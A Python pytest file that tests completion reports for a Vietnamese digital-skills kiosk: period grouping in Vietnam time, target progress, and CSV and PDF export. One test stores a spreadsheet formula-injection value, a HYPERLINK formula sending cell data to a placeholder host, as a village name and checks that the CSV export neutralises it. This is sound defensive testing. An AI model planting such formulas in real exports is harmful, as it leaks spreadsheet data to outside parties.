"""Completion reports: grouping, periods in Vietnam days, target progress, CSV and PDF."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import unicodedata
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import select

from kiosk.clock import VIETNAM
from kiosk.db.models import AuditEntry
from kiosk.staff.reports import (
    Grouping,
    LessonFacts,
    Period,
    build_report,
    csv_bytes,
    export_csv,
    export_pdf,
    period_key,
    periods_between,
    range_dates,
    record_export,
)
from tests.helpers.console_helpers import add_attempt, add_learner

LESSONS = {
    "safe-otp": LessonFacts("Mã OTP: không bao giờ đưa ai", "online_safety"),
    "vneid-install": LessonFacts("Cài ứng dụng VNeID", "vneid"),
}


def vn(day: int, hour: int, month: int = 3) -> datetime:
    """A moment given in Vietnam time (UTC+7), stored as UTC."""
    return datetime(2026, month, day, hour, 0, tzinfo=VIETNAM).astimezone(UTC)


@pytest.fixture
def filled(ready_services):  # type: ignore[no-untyped-def]
    with ready_services.database.transaction() as s:
        hoa = add_learner(s, "Lò Thị Hoa", 1975, "Bản Him Lam", "adults")
        dao = add_learner(s, "Quàng Thị Đào", 2011, "Tổ dân phố 5", "pupils")
        sang = add_learner(s, "Quàng Văn Sáng", 1968, "", "public_staff")
        # Monday 30 March to Sunday 5 April 2026 is one ISO week (W14) over two months.
        add_attempt(s, hoa, "safe-otp", vn(30, 9), passed=True)
        add_attempt(s, dao, "safe-otp", vn(5, 20, month=4), passed=True)
        add_attempt(s, dao, "vneid-install", vn(6, 0, month=4), passed=True)  # 00:00 Monday
        add_attempt(s, sang, "vneid-install", vn(29, 23), passed=True)  # Sunday 23:00: W13
        add_attempt(s, sang, "safe-otp", vn(1, 10, month=4), passed=False)  # not a completion
        add_attempt(s, hoa, "vneid-install", vn(10, 9, month=2), passed=True)  # before range
    return ready_services


def report(services, grouping: Grouping, period: Period, target: int = 0):  # type: ignore[no-untyped-def]
    with services.database.transaction() as s:
        return build_report(
            s,
            date(2026, 3, 23),
            date(2026, 4, 6),
            grouping,
            period,
            LESSONS,
            services.translator.tr,
            target,
        )


def test_vn_helper_is_vietnam_time() -> None:
    assert vn(6, 0, month=4) == datetime(2026, 4, 5, 17, 0, tzinfo=UTC)


def test_iso_weeks_straddle_month_ends() -> None:
    assert period_key(date(2026, 3, 30), Period.WEEK) == period_key(date(2026, 4, 5), Period.WEEK)
    assert period_key(date(2026, 3, 29), Period.WEEK) == "2026-W13"
    assert periods_between(date(2026, 3, 23), date(2026, 4, 6), Period.WEEK) == [
        "2026-W13",
        "2026-W14",
        "2026-W15",
    ]
    assert periods_between(date(2026, 3, 30), date(2026, 4, 2), Period.MONTH) == [
        "2026-03",
        "2026-04",
    ]
    assert range_dates("this_week", date(2026, 4, 2)) == (date(2026, 3, 30), date(2026, 4, 2))


def test_week_by_lesson_counts_in_vietnam_days(filled) -> None:  # type: ignore[no-untyped-def]
    r = report(filled, Grouping.LESSON, Period.WEEK)
    assert r.total == 4 and r.learners == 3
    assert [(b.key, b.count) for b in r.by_period] == [
        ("2026-W13", 1),
        ("2026-W14", 2),
        ("2026-W15", 1),
    ]
    assert r.by_period[1].label == "Tuần 14 (30/03–05/04/2026)"
    assert [(b.label, b.count) for b in r.by_group] == [  # ties: by lesson id
        ("Mã OTP: không bao giờ đưa ai", 2),
        ("Cài ứng dụng VNeID", 2),
    ]


@pytest.mark.parametrize(
    ("grouping", "expected"),
    [
        (Grouping.TRACK, [("VNeID", 2), ("An toàn trên mạng", 2)]),
        (Grouping.TARGET_GROUP, [("Học sinh", 2), ("Người dân", 1), ("Cán bộ, công chức", 1)]),
        (Grouping.VILLAGE, [("Tổ dân phố 5", 2), ("(chưa ghi bản)", 1), ("Bản Him Lam", 1)]),
    ],
)
def test_other_groupings(filled, grouping, expected) -> None:  # type: ignore[no-untyped-def]
    r = report(filled, grouping, Period.MONTH)
    assert sorted((b.label, b.count) for b in r.by_group) == sorted(expected)
    assert [(b.label, b.count) for b in r.by_period] == [("Tháng 3/2026", 2), ("Tháng 4/2026", 2)]


def test_days_and_target_progress(filled) -> None:  # type: ignore[no-untyped-def]
    r = report(filled, Grouping.LESSON, Period.DAY, target=6)
    assert len(r.by_period) == 15  # every day of the range, empty ones too
    counts = {b.key: b.count for b in r.by_period}
    assert counts["2026-04-05"] == 1 and counts["2026-04-06"] == 1 and counts["2026-03-29"] == 1
    assert r.reached == 3 and r.progress == 0.5  # distinct learners with a completion, ever


def test_csv_has_a_bom_and_vietnamese_rows(filled, tmp_path) -> None:  # type: ignore[no-untyped-def]
    r = report(filled, Grouping.TARGET_GROUP, Period.WEEK)
    data = csv_bytes(r, filled.translator.tr)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Tuần", "Nhóm người học", "Số bài hoàn thành"]
    assert ["Tuần 14 (30/03–05/04/2026)", "Học sinh", "1"] in rows
    assert rows[-1] == ["Tổng", "", "4"]
    path = export_csv(r, filled.translator.tr, tmp_path / "out")
    assert path.read_bytes() == data
    assert path.name == "bao-cao-2026-03-23-den-2026-04-06-target_group-week.csv"
    assert [p.name for p in (tmp_path / "out").iterdir()] == [path.name]  # no temp file left


def test_csv_keeps_a_village_that_reads_as_a_formula_as_text(ready_services) -> None:  # type: ignore[no-untyped-def]
    trap = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
    with ready_services.database.transaction() as s:
        mai = add_learner(s, "Giàng Thị Mai", 1990, trap, "adults")
        add_attempt(s, mai, "safe-otp", vn(31, 9), passed=True)
        tab = add_learner(s, "Lò Văn Tám", 1991, "@SUM(1+1)", "adults")
        add_attempt(s, tab, "safe-otp", vn(31, 10), passed=True)
    r = report(ready_services, Grouping.VILLAGE, Period.MONTH)
    rows = list(
        csv.reader(io.StringIO(csv_bytes(r, ready_services.translator.tr).decode("utf-8-sig")))
    )
    assert ["Tháng 3/2026", "'" + trap, "1"] in rows
    assert ["Tháng 3/2026", "'@SUM(1+1)", "1"] in rows


def test_pdf_is_one_page_with_the_vietnamese_text(filled, tmp_path) -> None:  # type: ignore[no-untyped-def]
    r = report(filled, Grouping.LESSON, Period.WEEK, target=10)
    place = filled.place_label()
    path = export_pdf(r, filled.translator.tr, tmp_path, place)
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True)
    assert "Pages:           1" in info.stdout
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    text = unicodedata.normalize("NFC", text)
    for source in (
        "Báo cáo kết quả học kỹ năng số",
        "Nhà văn hoá bản Him Lam — Phường Điện Biên Phủ",
        "Từ ngày 23/03/2026 đến ngày 06/04/2026",
        "Số bài đã hoàn thành: 4",
        "Tiến độ so với chỉ tiêu: 3/10 người (30%)",
        "Số bài hoàn thành theo bài học",
        "Mã OTP: không bao giờ đưa ai",
        "Cài ứng dụng VNeID",
    ):
        assert source in text, source
    with filled.database.transaction() as s:
        record_export(s, "staff", path, r)
    with filled.database.transaction() as s:
        entry = s.scalars(select(AuditEntry).where(AuditEntry.action == "report_exported")).one()
    assert json.loads(entry.detail_json) == {
        "file": path.name,
        "start": "2026-03-23",
        "end": "2026-04-06",
    }
